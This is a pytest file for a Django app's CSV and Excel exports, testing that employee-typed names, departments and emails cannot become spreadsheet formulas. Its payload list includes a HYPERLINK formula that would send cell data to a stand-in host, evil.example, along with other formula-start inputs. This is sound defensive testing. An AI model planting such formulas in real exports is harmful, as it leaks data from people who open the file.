"""Every CSV export speaks one dialect (core.exports): UTF-8 with BOM, `;` for German users and
`,` for English ones, column titles in the user's language, numbers unquoted, and no cell that
a spreadsheet would run as a formula, whatever an employee typed into a name, an address or a
department (the trainer's walk-in form is open to a plain employee)."""

import codecs
import csv
import datetime
import decimal
import io
import re

import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import translation

from core.exports import FORMULA_STARTS, csv_cell, csv_lines, neutralise
from guidelines.models import AcknowledgmentMethod, AcknowledgmentRequest, TrainingSession
from guidelines.services import guidelines as guideline_services
from rollout.models import (
    Department,
    KpiName,
    PeopleImport,
    Person,
    PhaseKind,
    Role,
    StoryKind,
    SuccessStory,
)
from rollout.services.people_files import (
    COLUMNS,
    EXPORT_HEADERS,
    HEADER_ALIASES,
    normalize_header,
)
from tests import factories

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1;"klick")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\tx",
    "\rx",
]
NUMBER = re.compile(r"-?\d+([.,]\d+)?")


@pytest.fixture
def planted(cast):
    """Departments, people and an acknowledgment reason holding every payload; the manager
    has no language of their own, so the browser's Accept-Language decides."""
    cast.manager.language = ""
    cast.manager.save(update_fields=["language"])
    cast.department_a.name = PAYLOADS[0]
    cast.department_a.save(update_fields=["name"])
    for n, payload in enumerate(PAYLOADS):
        department = factories.DepartmentFactory(name=payload if n else f"Abteilung {n}")
        factories.PersonFactory(
            department=department,
            first_name=payload,
            last_name=payload,
            email=f"{'=+-'[n % 3]}person{n}@example.de",
            job_title=payload,
        )
    for n, payload in enumerate(PAYLOADS):  # the report's figures carry the key figures' titles
        SuccessStory.objects.create(
            rollout=cast.rollout,
            date=datetime.date(2026, 3, 1),
            kind=StoryKind.KPI,
            kpi_name=KpiName.OTHER,
            title=payload,
            kpi_value=decimal.Decimal("-3.25") if n == 2 else decimal.Decimal("1250.50"),
        )
    phase = cast.rollout.phases.get(kind=PhaseKind.UNFREEZE)
    for n, payload in enumerate(PAYLOADS):  # the plan export carries titles and departments
        activity = factories.ActivityFactory(
            phase=phase, title=payload, due_date=datetime.date(2026, 5, n + 1)
        )
        activity.departments.set([cast.department_a])
    version = factories.guideline_version("published")
    request = AcknowledgmentRequest.objects.select_related("version").get(
        version=version, person=cast.employee.person
    )
    guideline_services.acknowledgment_record(
        request=request, method=AcknowledgmentMethod.ON_BEHALF, reason=PAYLOADS[0], by=cast.manager
    )
    return version


EXPORTS = {
    "rollout:people_export": lambda cast, version: reverse("rollout:people_export"),
    "guidelines:compliance_csv": lambda cast, version: reverse(
        "guidelines:compliance_csv", args=[version.pk]
    ),
    "reports:report_export": lambda cast, version: reverse(
        "reports:report_export", args=[cast.rollout.pk, "csv"]
    ),
    "rollout:plan_export": lambda cast, version: reverse(
        "rollout:plan_export", args=[cast.rollout.pk, "csv"]
    ),
}
# The Excel workbook beside each CSV: same rows, by the same name in the table above.
XLSX_EXPORTS = {
    "rollout:people_export": (
        "rollout:people_export_as",
        lambda cast, version: reverse("rollout:people_export_as", args=["xlsx"]),
    ),
    "guidelines:compliance_csv": (
        "guidelines:compliance_export",
        lambda cast, version: reverse("guidelines:compliance_export", args=[version.pk, "xlsx"]),
    ),
    "reports:report_export": (
        "reports:report_export",
        lambda cast, version: reverse("reports:report_export", args=[cast.rollout.pk, "xlsx"]),
    ),
    "rollout:plan_export": (
        "rollout:plan_export",
        lambda cast, version: reverse("rollout:plan_export", args=[cast.rollout.pk, "xlsx"]),
    ),
}
# The first column title of each export, by language.
FIRST_TITLE = {
    "rollout:people_export": {"de": "E-Mail", "en": "Email"},
    "guidelines:compliance_csv": {"de": "Nachname", "en": "Last name"},
    "reports:report_export": {"de": "Bereich", "en": "Section"},
    "rollout:plan_export": {"de": "Phase", "en": "Phase"},
}


def _download(client: Client, url: str, language: str) -> bytes:
    response = client.get(url, HTTP_ACCEPT_LANGUAGE=language)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment; filename=")
    assert "no-store" in response["Cache-Control"]
    return b"".join(response.streaming_content)


def _rows(content: bytes, separator: str) -> list[list[str]]:
    assert content.startswith(codecs.BOM_UTF8)
    text = content[len(codecs.BOM_UTF8) :].decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))


def _all_export_url_names() -> set[str]:
    """Every URL of the project that is a download of a CSV file or an export."""
    names: set[str] = set()

    def walk(patterns, namespace: str) -> None:
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
                walk(pattern.url_patterns, inner)
            elif isinstance(pattern, URLPattern) and pattern.name:
                route = str(pattern.pattern)
                if ".csv" in route or "export" in route or "<str:fmt>" in route:
                    names.add(namespace + pattern.name)

    walk(get_resolver().url_patterns, "")
    return names


def test_every_export_url_is_in_the_table():
    assert _all_export_url_names() == set(EXPORTS) | {name for name, _ in XLSX_EXPORTS.values()}
    assert set(XLSX_EXPORTS) == set(EXPORTS), "an Excel file beside every CSV"


def _workbook(client: Client, url: str, language: str):
    from openpyxl import load_workbook

    response = client.get(url, HTTP_ACCEPT_LANGUAGE=language)
    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert ".xlsx" in response["Content-Disposition"]
    assert response["Content-Disposition"].startswith("attachment;")
    assert "no-store" in response["Cache-Control"]
    content = b"".join(response.streaming_content)
    return load_workbook(io.BytesIO(content)).active


@pytest.mark.parametrize("name", EXPORTS)
@pytest.mark.parametrize("language", ["de", "en"])
def test_every_export_has_a_workbook_with_the_same_rows(cast, planted, name, language):
    """Same titles (in the user's language), same number of rows as the CSV; text cells never
    formulas, whatever was typed; numbers and dates typed cells."""
    client = cast.client("manager")
    sheet = _workbook(client, XLSX_EXPORTS[name][1](cast, planted), language)
    separator = ";" if language == "de" else ","
    csv_rows = _rows(_download(client, EXPORTS[name](cast, planted), language), separator)
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert sheet.cell(1, 1).value == FIRST_TITLE[name][language]
    assert sheet.max_row == len(csv_rows)
    assert not [cell.value for cell in cells if cell.data_type == "f"], "no formula cells"
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    for payload in PAYLOADS[:4]:  # the CSV's apostrophe is not needed: a text cell is text
        assert payload in texts, (name, payload)
    if name == "reports:report_export":
        numbers = [cell.value for cell in cells if cell.data_type == "n"]
        assert 1250.5 in numbers and -3.25 in numbers
    if name == "rollout:plan_export":
        dates = [cell.value for cell in cells if cell.is_date]
        assert datetime.datetime(2026, 5, 1) in dates


def test_the_plan_export_is_for_the_manager_and_leadership_only(cast, planted):
    for who, status in (
        ("manager", 200),
        ("leadership", 200),
        ("head_a", 404),
        ("employee", 404),
        ("anonymous", 302),
    ):
        for fmt in ("csv", "xlsx"):
            url = reverse("rollout:plan_export", args=[cast.rollout.pk, fmt])
            assert cast.client(who).get(url).status_code == status, (who, fmt)
    url = reverse("rollout:plan_export", args=[cast.rollout.pk, "xls"])
    assert cast.client("manager").get(url).status_code == 404


def test_the_plan_export_runs_a_fixed_number_of_queries(
    cast, planted, django_assert_max_num_queries
):
    client = cast.client("manager")
    url = reverse("rollout:plan_export", args=[cast.rollout.pk, "csv"])

    def count() -> int:
        from django.db import connection
        from django.test.utils import CaptureQueriesContext

        with CaptureQueriesContext(connection) as queries:
            b"".join(client.get(url).streaming_content)
        return len(queries)

    few = count()
    phase = cast.rollout.phases.get(kind=PhaseKind.MOVE)
    for n in range(30):
        factories.ActivityFactory(phase=phase, title=f"Mehr {n}").departments.set(
            [cast.department_a, cast.department_b]
        )
    assert count() == few


@pytest.mark.parametrize("language", ["de", "en"])
def test_the_people_workbook_imports_back_unchanged(cast, planted, language):
    from django.core.files.uploadedfile import SimpleUploadedFile

    Person.objects.filter(first_name__in=["\tx", "\rx"]).delete()
    Department.objects.filter(name__in=["\tx", "\rx"]).delete()
    client = cast.client("manager")
    response = client.get(
        reverse("rollout:people_export_as", args=["xlsx"]), HTTP_ACCEPT_LANGUAGE=language
    )
    content = b"".join(response.streaming_content)
    upload = client.post(
        reverse("rollout:people_import"),
        {"file": SimpleUploadedFile("people.xlsx", content)},
        HTTP_ACCEPT_LANGUAGE=language,
    )
    assert upload.status_code == 302
    summary = PeopleImport.objects.get().summary
    assert summary["counts"] == {
        "create": 0,
        "update": 0,
        "unchanged": Person.objects.count(),
        "reject": 0,
    }


@pytest.mark.parametrize("name", EXPORTS)
@pytest.mark.parametrize(("language", "separator"), [("de", ";"), ("en", ",")])
def test_every_export_neutralises_every_cell(cast, planted, name, language, separator):
    content = _download(cast.client("manager"), EXPORTS[name](cast, planted), language)
    rows = _rows(content, separator)
    assert rows[0][0] == FIRST_TITLE[name][language], "column titles in the user's language"
    assert len(rows[0]) > 2, "split at the language's separator"
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS) or NUMBER.fullmatch(cell), repr(cell)
    for payload in PAYLOADS:
        assert payload not in cells
        assert "'" + payload in cells, (name, payload)
    # The people the employee might have planted, also in their email addresses.
    if name in ("rollout:people_export", "guidelines:compliance_csv"):
        assert "'=person0@example.de" in cells and "'+person1@example.de" in cells
    # Numbers stay numbers: never inside quotes.
    assert not re.search(rb'"-?\d+([.,]\d+)?"', content)


@pytest.mark.parametrize(("language", "value"), [("de", "1250,50"), ("en", "1250.50")])
def test_the_report_figures_write_numbers_as_numbers(cast, planted, language, value):
    content = _download(
        cast.client("manager"),
        reverse("reports:report_export", args=[cast.rollout.pk, "csv"]),
        language,
    )
    lines = content.decode("utf-8-sig").splitlines()
    separator = ";" if language == "de" else ","
    kpis = [line for line in lines if f"{separator}latest{separator}" in line]
    assert len(kpis) == len(PAYLOADS)
    assert sum(line.endswith(f"{separator}{value}") for line in kpis) == len(PAYLOADS) - 1
    negative = "-3,25" if language == "de" else "-3.25"
    assert sum(line.endswith(f"{separator}{negative}") for line in kpis) == 1


def test_the_users_own_language_wins_over_the_browser(cast, planted):
    cast.manager.language = "en"
    cast.manager.save(update_fields=["language"])
    content = _download(cast.client("manager"), reverse("rollout:people_export"), "de")
    assert content.decode("utf-8-sig").startswith("Email,First name,Last name,")


@pytest.mark.parametrize("language", ["de", "en"])
def test_the_export_pages_say_which_separator(cast, planted, language):
    client = cast.client("manager")
    note = {
        "de": "CSV (UTF-8) mit Semikolon als Trennzeichen, für Excel auf Deutsch.",
        "en": "CSV (UTF-8) separated by commas, for Excel in English.",
    }[language]
    for url in (
        reverse("guidelines:compliance", args=[planted.pk]),
        reverse("rollout:department_list"),
        reverse("rollout:people_import"),
        reverse("reports:report_list", args=[cast.rollout.pk]),
    ):
        response = client.get(url, HTTP_ACCEPT_LANGUAGE=language)
        assert response.status_code == 200
        assert note in response.text, url


def test_a_walk_in_from_a_plain_employee_cannot_plant_a_formula(cast, settings):
    """The trainer is a plain employee; the names and the address they type for a walk-in
    reach the people export and the compliance export as text."""
    settings.NOTIFY_QUIET_HOURS = False
    session = factories.training_session(
        phase=cast.rollout.phases.get(kind=PhaseKind.MOVE), departments=[cast.department_a]
    )
    trainer = factories.UserFactory(roles=[Role.EMPLOYEE])
    person = factories.PersonFactory(email=trainer.email, user=trainer, department=None)
    TrainingSession.objects.filter(pk=session.pk).update(trainer=person)
    client = Client()
    client.force_login(trainer)
    response = client.post(
        reverse("guidelines:training_walk_in", args=[session.pk]),
        {"first_name": PAYLOADS[0], "last_name": "@SUM(A1)", "email": "=cmd@example.de"},
    )
    assert response.status_code == 302
    version = factories.guideline_version("published")
    manager = cast.client("manager")
    for url in (
        reverse("rollout:people_export"),
        reverse("guidelines:compliance_csv", args=[version.pk]),
    ):
        cells = [cell for row in _rows(_download(manager, url, "de"), ";") for cell in row]
        assert "'" + PAYLOADS[0] in cells and "'@SUM(A1)" in cells
        assert "'=cmd@example.de" in cells
        assert not any(cell.startswith(("=", "@")) for cell in cells)


@pytest.mark.parametrize("language", ["de", "en"])
def test_the_people_export_imports_back_unchanged(cast, planted, language):
    """Neutralised cells, either separator and either language's titles: the import reads
    its own export back and finds nothing to change."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    # The import drops control characters from any cell, so a name stored with a tab or CR
    # (never by the import) would read back changed: the round trip is about the formulas.
    Person.objects.filter(first_name__in=["\tx", "\rx"]).delete()
    Department.objects.filter(name__in=["\tx", "\rx"]).delete()
    client = cast.client("manager")
    content = _download(client, reverse("rollout:people_export"), language)
    assert b"'=HYPERLINK" in content and b"'@SUM" in content
    upload = client.post(
        reverse("rollout:people_import"),
        {"file": SimpleUploadedFile("people.csv", content, content_type="text/csv")},
        HTTP_ACCEPT_LANGUAGE=language,
    )
    assert upload.status_code == 302
    summary = PeopleImport.objects.get().summary
    assert summary["counts"] == {
        "create": 0,
        "update": 0,
        "unchanged": Person.objects.count(),
        "reject": 0,
    }
    assert summary["departments"] == []


def test_the_people_export_titles_are_import_headers_in_both_languages():
    for language in ("de", "en"):
        with translation.override(language):
            for key in COLUMNS:
                assert HEADER_ALIASES[normalize_header(str(EXPORT_HEADERS[key]))] == key


# --- The writer itself ------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralise(payload):
    assert neutralise(payload) == "'" + payload
    assert neutralise("Anna") == "Anna"
    assert neutralise("") == ""


def test_cells_numbers_and_text():
    assert csv_cell(12.5, german=True) == "12,5"
    assert csv_cell(12.5, german=False) == "12.5"
    assert csv_cell(decimal.Decimal("3.10"), german=True) == "3,10"
    assert csv_cell(1e-7, german=False) == "0.0000001"
    assert csv_cell(float("nan"), german=False) == ""
    assert csv_cell(-2, german=True) == -2  # a real number is not text: left alone
    assert csv_cell("-2", german=True) == "'-2"
    assert csv_cell(None, german=True) == ""
    with translation.override("de"):
        assert csv_cell(True, german=True) == "ja"


def test_lines_stream_in_chunks_with_one_bom():
    rows = [["Name", "Wert"]] + [[f"Person {n}", n] for n in range(5000)]
    chunks = list(csv_lines(rows, language="de"))
    assert len(chunks) > 1
    text = "".join(chunks)
    assert text.count("\ufeff") == 1 and text.startswith("\ufeff")
    assert text.splitlines()[1] == "Person 0;0"
    assert "\r\n" in text
